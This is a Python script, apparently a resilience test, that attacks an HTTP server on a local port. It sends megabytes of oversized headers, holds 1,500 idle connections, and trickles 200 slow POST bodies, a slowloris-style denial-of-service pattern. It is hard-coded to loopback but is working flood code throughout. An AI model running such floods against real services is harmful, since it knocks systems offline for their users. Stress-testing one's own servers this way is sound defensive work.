"""Clients that send too much, too slowly or nothing: `attack.py PORT MEGABYTES`.

Until four connections have sent the megabytes of headers, others stay idle or send bodies slowly.
A connection that the server closes is opened again.
"""

import asyncio
import random
import resource
import sys
from collections.abc import Awaitable, Callable
from contextlib import suppress

SENDERS = 4
IDLE = 1_500
SLOW_BODIES = 200
# A loopback connection takes them even if the server stops to read.
_LINES = b"X-Header: abcdefgh\r\n" * 30_000
_HEAD = b"GET /health HTTP/1.1\r\nHost: localhost\r\n"
_POST = (
    b"POST /sentiment HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n"
    b"Content-Length: 1900000\r\n\r\n"
)


class Attack:
    """The clients, and the bytes of headers that they still have to send."""

    def __init__(self, port: int, megabytes: int) -> None:
        self._port = port
        self._left = megabytes * 1_000_000

    async def run(self) -> None:
        """Attack until all headers are sent."""
        holders = [asyncio.create_task(self._hold(self._wait)) for _ in range(IDLE)]
        holders += [asyncio.create_task(self._hold(self._send_slowly)) for _ in range(SLOW_BODIES)]
        await asyncio.gather(*(self._send_headers() for _ in range(SENDERS)))
        for holder in holders:
            holder.cancel()

    async def _send_headers(self) -> None:
        while self._left > 0:
            with suppress(OSError):
                _, writer = await asyncio.open_connection("127.0.0.1", self._port)
                try:
                    writer.write(_HEAD)
                    while self._left > 0:
                        writer.write(_LINES)
                        self._left -= len(_LINES)
                        await writer.drain()
                finally:
                    writer.transport.abort()

    async def _hold(
        self, use: Callable[[asyncio.StreamReader, asyncio.StreamWriter], Awaitable[None]]
    ) -> None:
        """Use one connection after another."""
        # Not all connections in the same moment.
        await asyncio.sleep(2 * random.random())
        while True:
            with suppress(OSError):
                reader, writer = await asyncio.open_connection("127.0.0.1", self._port)
                try:
                    await use(reader, writer)
                finally:
                    writer.transport.abort()
            # A client that opens connections without a pause uses its own processor up.
            await asyncio.sleep(0.5)

    async def _wait(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        await reader.read()

    async def _send_slowly(
        self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter
    ) -> None:
        writer.write(_POST + b" " * 100_000)
        while not reader.at_eof():
            writer.write(b" ")
            await writer.drain()
            with suppress(TimeoutError):
                await asyncio.wait_for(reader.read(), 0.5)


def main() -> None:
    """Attack a port with megabytes of headers."""
    _, files = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (files, files))
    port, megabytes = map(int, sys.argv[1:])
    asyncio.run(Attack(port, megabytes).run())


if __name__ == "__main__":
    main()
